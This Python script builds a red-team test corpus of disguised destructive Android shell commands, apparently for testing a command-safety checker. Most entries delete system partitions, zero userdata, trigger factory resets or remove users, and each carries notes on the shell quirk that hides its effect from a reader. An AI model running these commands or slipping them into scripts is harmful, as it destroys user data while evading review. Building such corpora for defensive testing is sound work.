#!/usr/bin/env python3
"""Round 7, attacker A (the shell language): the corpus as Python data.

Writes corpus.jsonl next to this file. No command text goes through a host shell; every line
is only ever run inside the tests/sandbox jail (prove.py / try.py).
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent

MKSH_ARRAY = "busybox sh has no arrays: `a[x]=...` is a command that is not found and `${a[x]}` is a bad substitution"
MKSH_WIDTH = "`${%NAME}` (display width) is mksh-only; busybox sh calls it a bad substitution"
MKSH_KSHFUNC = "mksh keeps `set` options local to a function defined with the `function` keyword; busybox sh does not, so the option really is set and nothing is deleted"
MKSH_NUL = "busybox sh keeps the characters after `\\0` in `$'...'`; only mksh ends the string there"
BB_BREAK = "mksh refuses `break` inside a function that is not itself in a loop (`break: can't break`), so the loop goes on; busybox sh lets the function break its caller's loop"

L = []


def add(family, cmd, note, shells=None, why=None):
    row = {"family": family, "cmd": cmd, "note": note}
    if shells:
        row["shells"] = shells
        row["shells_why"] = why
    L.append(row)


# ---------------------------------------------------------------- at-prefix
add("at-prefix", 'set -- tmp/old ../../../sdcard/DCIM; rm -rf "/data/local/$@"',
    'text glued to "$@" joins only the FIRST field: the words are /data/local/tmp/old and ../../../sdcard/DCIM, '
    'which is relative to adbd\'s working directory / and so is /sdcard/DCIM (a top-level storage folder). '
    'A reader that puts /data/local/ in front of every parameter sees two paths under /data/local')
add("at-prefix", 'set -- /system_ext build; rm -rf "$@.tmp"',
    'text glued after "$@" joins only the LAST field: the words are /system_ext and build.tmp, so the OS image '
    '/system_ext is deleted, not /system_ext.tmp')
add("at-prefix", 'set -- log /dev/block/by-name/userdata; echo x | tee "/data/local/tmp/$@" >/dev/null',
    'tee is given /data/local/tmp/log AND /dev/block/by-name/userdata (the prefix only joins the first field): '
    'the userdata partition is overwritten')
add("at-prefix", 'set -- com.example.app com.whatsapp com.spotify.music com.google.android.gms; for p in "--user 0 $@"; do pm uninstall $p; done',
    '"--user 0 $@" is four words, not one: the prefix joins only the first. The loop uninstalls 4 packages '
    '(a reader that sees one quoted word sees one loop pass)')

# ---------------------------------------------------------------- array-index (mksh)
add("array-index", 'a[safe]=/data/local/tmp/old; a[target]=/vendor; rm -rf "${a[safe]}"',
    'mksh arrays are indexed arithmetically, not by string: `safe` and `target` are unset names that evaluate '
    'to 0, so both assignments go to a[0] and ${a[safe]} is /vendor. A reader that models an associative '
    'array reads /data/local/tmp/old', ["mksh"], MKSH_ARRAY)
add("array-index", 'path[scratch]=/data/local/tmp/old; path[system]=/data/system; rm -rf "${path[scratch]}"',
    'both subscripts are the arithmetic value of an unset name (0): path[system] overwrites path[scratch], '
    'so the rm deletes /data/system', ["mksh"], MKSH_ARRAY)
add("array-index", 'op[safe]=list-users; op[risky]=remove-user; pm ${op[safe]} 10',
    'op[safe] and op[risky] are the same element (index 0 in arithmetic): `pm remove-user 10` runs',
    ["mksh"], MKSH_ARRAY)

# ---------------------------------------------------------------- width (mksh)
add("width", 'X=1234567890123; dd if=/dev/zero of=/dev/block/mmcblk0p${%X} count=1',
    'mksh `${%X}` is the display width of X (13 columns), not a pattern removal: the target is mmcblk0p13, '
    'the userdata partition', ["mksh"], MKSH_WIDTH)
add("width", 'n=system.img; dd if=/dev/zero of=/dev/block/mmcblk0p${%n} count=1',
    '`${%n}` is the width of "system.img", 10: the dd writes mmcblk0p10, the system partition. A reader that '
    'takes `%` for suffix removal sees an empty or odd suffix', ["mksh"], MKSH_WIDTH)

# ---------------------------------------------------------------- backquote-escape
add("backquote-escape", "rm -rf /`printf '\\\\166endor'`",
    'inside backquotes `\\\\` becomes `\\` BEFORE the inner command is parsed, even inside single quotes: printf '
    'gets \\166endor and prints "vendor" (octal 166 is v). With $( ) the same text would print a literal '
    'backslash. The rm deletes /vendor')
add("backquote-escape", "am broadcast -a android.intent.action.`printf 'MASTER\\\\137CLEAR'`",
    'backquote processing turns `\\\\137` into `\\137` inside the single quotes, and printf turns that into `_`: '
    'the action is MASTER_CLEAR (factory reset)')
add("backquote-escape", "pm `printf 'remove\\\\055user'` 10",
    'backquotes remove one backslash even inside single quotes, so printf sees `\\055` (a dash): '
    '`pm remove-user 10`')

# ---------------------------------------------------------------- alias-runtime
add("alias-runtime", "alias tidy='rm -rf /product'; eval tidy",
    'an alias defined on the same line is not used by words parsed with that line (round 4), but eval parses '
    'its text when it runs, after the alias exists: `eval tidy` deletes /product')
add("alias-runtime", "alias tidy='rm -rf /odm'; trap tidy EXIT",
    'a trap action is parsed when the trap fires, so the same-line alias applies: at exit `tidy` is '
    '`rm -rf /odm`')
add("alias-runtime", "alias flush='cmd testharness enable'; eval flush",
    'eval parses `flush` after the alias was defined on the same line: test-harness mode is enabled '
    '(wipes the device)')

# ---------------------------------------------------------------- crlf
add("crlf", 'cd /data/local/tmp/build\r\nrm -rf vendor product \r\n',
    'CRLF line endings: a carriage return is an ordinary word character to the shell, so the cd target is '
    '"build\\r", which does not exist; the cd fails and the shell stays in /, where `rm -rf vendor product` '
    'deletes /vendor and /product. (The trailing " \\r" is one more missing operand, ignored by -f.) A reader '
    'that normalises line endings reads two directories under /data/local/tmp/build')
add("crlf", 'cd /sdcard/Download/tmp\r\nrm -rf ./* ;\r\n',
    'with CRLF the cd target is "tmp\\r" (missing), so `rm -rf ./*` runs in / and deletes everything; the '
    'final "\\r" is a separate command after `;`, not an rm operand. Read with normalised line endings it '
    'empties one named subfolder of Download')
# ---------------------------------------------------------------- cd-subshell
add("cd-subshell", 'cd /data/local/tmp/build | cat; rm -rf vendor',
    'every element of a pipeline runs in a subshell, so the cd does not change the shell\'s directory; the '
    'relative rm runs in / and deletes /vendor')
add("cd-subshell", 'cd /data/local/tmp/build & wait; rm -rf ./system_ext',
    'a background command runs in a subshell: the cd succeeds there and is lost; ./system_ext is /system_ext')
add("cd-subshell", 'echo "moving to $(cd /data/local/tmp/build && pwd)"; rm -rf ./product',
    'the cd inside the command substitution changes only that subshell\'s directory; ./product is /product')

# ---------------------------------------------------------------- pipe-read
add("pipe-read", 'T=/vendor; echo /data/local/tmp/old | read T; rm -rf "$T"',
    'mksh R59 and busybox sh run the last element of a pipeline in a subshell too: the read sets T there, '
    'and the shell\'s T is still /vendor')
add("pipe-read", 'A=remove-user; echo list-users | read A; pm $A 10',
    '`read A` runs in the pipeline\'s subshell, so A stays remove-user: `pm remove-user 10`')
add("pipe-read", 'F=/cache/recovery/command; echo /data/local/tmp/cmd.txt | read F; echo --wipe_data > "$F"',
    'the read that was to move F to a scratch file is lost in the pipeline subshell: --wipe_data is written '
    'to the recovery command file')

# ---------------------------------------------------------------- loop-jump
add("loop-jump", 'T=/vendor; for a in 1; do for b in 1; do break 2; done; T=/data/local/tmp/old; done; rm -rf "$T"',
    '`break 2` leaves BOTH loops, so the reassignment after the inner loop never runs; T is /vendor')
add("loop-jump", 'T=/data/system; for i in 1 2; do for j in 1; do continue 2; done; T=/data/local/tmp/old; done; rm -rf "$T"',
    '`continue 2` goes to the next pass of the OUTER loop every time: the safe reassignment is never reached '
    'and /data/system is deleted')

# ---------------------------------------------------------------- bb-break (busybox)
add("bb-break", 'stop() { break; }; T=/product; for i in 1; do stop; T=/data/local/tmp/x; done; rm -rf "$T"',
    'busybox sh lets `break` inside a function leave the CALLER\'s loop (dynamic scope): the reassignment '
    'after `stop` is skipped and /product is deleted. mksh refuses that break and deletes only the scratch path',
    ["busybox"], BB_BREAK)
add("bb-break", 'done_() { break; }; T=/data/misc; while :; do done_; T=/data/local/tmp/misc; break; done; rm -rf "$T"',
    'the function `done_` breaks the while loop that calls it (busybox), so T keeps /data/misc',
    ["busybox"], BB_BREAK)

# ---------------------------------------------------------------- printf-num
add("printf-num", 'dd if=/dev/zero of=/dev/block/mmcblk0p$(printf %d 015) count=1',
    'printf reads numeric arguments the C way: 015 is octal, so %d prints 13 (the userdata partition), '
    'not 15')
add("printf-num", 'dd if=/dev/zero of=/dev/block/mmcblk0p$(printf %x 19) count=1',
    '%x prints 19 in hexadecimal, "13": the dd writes the userdata partition')
add("printf-num", 'rm -rf /storage/emulated/$(printf %d 00)/*',
    '`printf %d 00` is 0: the path is /storage/emulated/0/*, the whole shared storage')

# ---------------------------------------------------------------- status-wrap
add("status-wrap", '(exit 269); dd if=/dev/zero of=/dev/block/mmcblk0p$? count=1',
    'an exit status is taken modulo 256: `exit 269` gives $? = 13, the userdata partition')
add("status-wrap", 'f() { return 263; }; f; dd if=/dev/zero of=/dev/block/mmcblk0p$? count=1',
    '`return 263` gives $? = 7: the dd writes mmcblk0p7, the misc partition (the boot control block)')
add("status-wrap", "sh -c 'exit 256'; rm -rf /storage/emulated/$?/*",
    '`exit 256` is status 0: the rm empties /storage/emulated/0')

# ---------------------------------------------------------------- pipe-comment
add("pipe-comment", "echo 'rm -rf /vendor' | # keep a copy in the log\nsh",
    'a comment may follow `|`, and the pipeline goes on at the next line: the echo feeds `sh`. A reader that '
    'ends the command at the newline sees a dangling pipe and a bare `sh`')
add("pipe-comment", "printf 'cmd testharness enable\\n' |\n# note: the next line only shows the text\nsh",
    'newlines and whole comment lines are allowed after `|`: the sh on the third line is still the right side '
    'of the pipe and runs `cmd testharness enable`')

# ---------------------------------------------------------------- signame
add("signame", 'rm -rf /$(kill -l 31 | tr A-Z a-z)tem',
    '`kill -l 31` prints the name of signal 31, SYS; lower-cased it makes /system')

# ---------------------------------------------------------------- errexit-scope
add("errexit-scope", 'set -e; cleanup() { cd /data/local/tmp/staging 2>/dev/null; rm -rf ./*; }; cleanup || echo failed',
    'set -e is ignored in the WHOLE body of a function called on the left of `||`: the failed cd does not stop '
    'it, and `rm -rf ./*` runs in / (everything)')
add("errexit-scope", 'set -e; f() { cd /data/local/tmp/staging; rm -rf system_ext; }; if f; then :; fi 2>/dev/null',
    'a function called as an `if` condition runs with errexit off: the cd fails, the shell stays in /, and '
    'system_ext is /system_ext')
add("errexit-scope", '(set -e); cd /data/local/tmp/staging 2>/dev/null; rm -rf system_ext',
    '`set -e` inside ( ) applies to that subshell only: the failed cd does not stop the shell, and the rm runs '
    'in /')

# ---------------------------------------------------------------- nul
add("nul", "rm -rf $'/vendor\\0.bak'",
    'mksh ends a $\'...\' string at \\0 (C strings): the operand is /vendor, not /vendor<NUL>.bak',
    ["mksh"], MKSH_NUL)
add("nul", "am broadcast -a android.intent.action.$'MASTER_CLEAR\\0_DISABLED'",
    'mksh cuts the word at \\0: the action is MASTER_CLEAR (factory reset), not MASTER_CLEAR_DISABLED',
    ["mksh"], MKSH_NUL + "; busybox's stub log still matches the wipe pattern on the text MASTER_CLEAR_DISABLED, which is no reset")
add("nul", "rm -rf \"$(printf '/sys\\0tem')\"",
    'a NUL byte in command-substitution output is dropped (both shells), not a terminator: the word is '
    '/system. A reader that cuts at the NUL reads /sys')

# ---------------------------------------------------------------- arith-zero
add("arith-zero", 'rm -rf /storage/emulated/$(( ))/*',
    'an empty arithmetic expansion is 0 in both shells: /storage/emulated/0/*')
add("arith-zero", 'rm -rf /storage/emulated/$((1>2))/*',
    'inside $(( )) `>` is a comparison (false, 0), not a redirection: the path is /storage/emulated/0/*')

# ---------------------------------------------------------------- arith-assign
add("arith-assign", "read -r E <<'EOF'\np=13\nEOF\n: $((E)); dd if=/dev/zero of=/dev/block/mmcblk0p$p count=1",
    'a variable named in arithmetic is evaluated as an expression, in busybox sh as in mksh: E holds the '
    'text `p=13`, so $((E)) ASSIGNS p=13. The dd writes the userdata partition')
add("arith-assign", "K='i=0'; : $((K)); rm -rf /storage/emulated/$i/*",
    'the value of K is evaluated as the assignment i=0: the rm empties /storage/emulated/0')

# ---------------------------------------------------------------- readonly-builtin
add("readonly-builtin", "readonly T=/product 2>/dev/null; read T <<'EOF'\n/data/local/tmp/old\nEOF\nrm -rf \"$T\"",
    '`read` into a readonly variable fails, and (unlike an assignment) that failure does not end the shell: '
    'T keeps /product')
add("readonly-builtin", "readonly A=remove-user; read A <<'EOF'\nlist-users\nEOF\npm $A 10",
    'the read that should replace A fails on the readonly variable and the shell goes on: `pm remove-user 10`')

# ---------------------------------------------------------------- ksh-func-options (mksh)
add("ksh-func-options", 'function f { set -f; }; f; rm -rf /sys*',
    'in mksh a function defined with `function NAME {` has its own shell options: `set -f` (no globbing) is '
    'undone when f returns, so /sys* matches /system', ["mksh"], MKSH_KSHFUNC)
add("ksh-func-options", 'function quiet { set -o noglob; }; quiet; rm -rf /data/data/*',
    'the noglob set inside a ksh-style function ends with it: /data/data/* expands to every app\'s data',
    ["mksh"], MKSH_KSHFUNC)

# ---------------------------------------------------------------- anchor-replace
add("anchor-replace", 'X=system_ext; rm -rf "${X/#//}"',
    'after the `/#` anchor the pattern is empty and the replacement is the second `/`: /system_ext. A reader '
    'that takes `//` for the global-replace operator sees a deletion of nothing')

# ---------------------------------------------------------------- builtin-clears
add("builtin-clears", 'S=/com.example.app; read -r S </dev/null; rm -rf /data/data$S',
    '`read` at end of input fails but still sets its variable to the empty string: the path is /data/data '
    '(every app\'s data), not one app')
add("builtin-clears", 'OPTARG=com.example.app; getopts v o -v; rm -rf /data/user_de/0/$OPTARG',
    'getopts UNSETS OPTARG when the option it finds takes no argument: the path is /data/user_de/0/')
add("builtin-clears", 'R=/data/local/tmp/recovery.txt; read -r R </dev/null; echo --wipe_data >/cache/recovery/command$R',
    'the read from an empty input empties R: --wipe_data goes to /cache/recovery/command itself')

# ---------------------------------------------------------------- command-unspecial
add("command-unspecial", 'T=/vendor; T=/data/local/tmp/old command :; rm -rf "$T"',
    'an assignment before a special builtin persists (round 3), but `command` takes the specialness away: '
    'this assignment is temporary and T is /vendor again')
add("command-unspecial", 'T=/product; T=/data/local/tmp/old command eval :; rm -rf "$T"',
    '`command eval` is not a special builtin, so the prefix assignment does not outlive it: /product is '
    'deleted')

# ---------------------------------------------------------------- redir-fail
add("redir-fail", 'T=/data/system; T=/data/local/tmp/old 2>/data/local/tmp/nodir/log; rm -rf "$T"',
    'an assignment-only command whose redirection fails (the directory does not exist) is not performed: '
    'T stays /data/system')
add("redir-fail", 'A=remove-user; A=list-users </data/local/tmp/none.txt; pm $A 10',
    'the input file does not exist, so the whole assignment command fails and A keeps remove-user')

# ---------------------------------------------------------------- closed-fd
add("closed-fd", 'T=/vendor; echo ready >&- && T=/data/local/tmp/old; rm -rf "$T"',
    'echo writes to a CLOSED stdout and fails (EBADF), so the `&&` reassignment is skipped: T is /vendor')
add("closed-fd", "A=remove-user; printf 'check\\n' >&- && A=list-users; pm $A 10",
    'printf to a closed descriptor fails; the `&&` branch does not run and `pm remove-user 10` does')


def main():
    out = HERE / "corpus.jsonl"
    out.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in L))
    fams = {}
    for r in L:
        fams[r["family"]] = fams.get(r["family"], 0) + 1
    print(f"{len(L)} lines, {len(fams)} families -> {out}")
    for k, v in fams.items():
        print(f"  {k}: {v}")


if __name__ == "__main__":
    main()
